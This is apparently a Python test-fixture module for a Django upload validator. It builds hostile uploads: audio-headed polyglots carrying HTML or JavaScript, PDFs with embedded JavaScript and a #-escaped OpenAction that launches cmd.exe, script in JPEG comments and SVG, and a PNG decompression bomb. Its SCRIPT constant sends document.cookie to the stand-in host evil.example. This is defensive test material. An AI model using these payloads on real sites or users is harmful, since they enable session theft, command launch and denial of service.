"""Files an attacker (or an unlucky editor) uploads, made here byte by byte."""

from __future__ import annotations

import io
import struct
import wave
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

HTML = b"<html><body><script>fetch('/ru/accounts/').then(r=>r.text())</script></body></html>"
SCRIPT = b"document.location='https://evil.example/?c='+document.cookie;"


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type)


def wav_bytes(seconds: int = 1) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\x00\x01" * 8000 * seconds)
    return buffer.getvalue()


def mp3_bytes(frames: int = 40) -> bytes:
    """MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz: 417 bytes each) of silence, with a tag."""
    frame = bytes([0xFF, 0xFB, 0x90, 0x64]) + b"\x00" * 413
    tag = b"ID3\x03\x00\x00\x00\x00\x00\x00"
    return tag + frame * frames


def id3_then_html() -> bytes:
    """`player.html`: an ID3 tag and one MPEG frame header (libmagic says audio/mpeg), then a
    web page."""
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes([0xFF, 0xFB, 0x90, 0x64]) + HTML * 20


def ftyp_then_script() -> bytes:
    """`m4a.js`: an `ftypM4A` box (libmagic says audio/mp4) followed by JavaScript."""
    return struct.pack(">I", 24) + b"ftypM4A \x00\x00\x00\x00M4A isom" + SCRIPT * 20


def mp3_with_html_after_the_tag() -> bytes:
    """A real MP3 whose ID3 tag is followed by a page before the first frame."""
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + HTML + mp3_bytes()[10:]


def pdf_with_javascript() -> bytes:
    """A document-level script in the catalogue's name tree (what Acrobat runs on opening)."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    script = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('owned');"),
        }
    )
    names = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [TextStringObject("owned"), writer._add_object(script)]
                    )
                }
            )
        }
    )
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_from_objects(*objects: bytes) -> bytes:
    """A PDF with a correct cross-reference table around the given object bodies (1, 2 …)."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def pdf_with_hidden_open_action() -> bytes:
    """/OpenAction spelt with a #-escape, which a byte search for the name would miss."""
    return pdf_from_objects(
        b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</S/Launch/F(cmd.exe)>>",
    )


def plain_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def jpeg_with_comment(comment: bytes = b"<script>alert('comment')</script>") -> bytes:
    image = Image.new("RGB", (320, 200), "olive")
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", comment=comment, exif=exif.tobytes())
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 30_000) -> bytes:
    """A PNG that says it is side × side pixels: a few hundred bytes that would unpack to GB."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    row = b"\x00" + b"\x00" * side
    compressor = zlib.compressobj(9)
    data = compressor.compress(row * 16) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
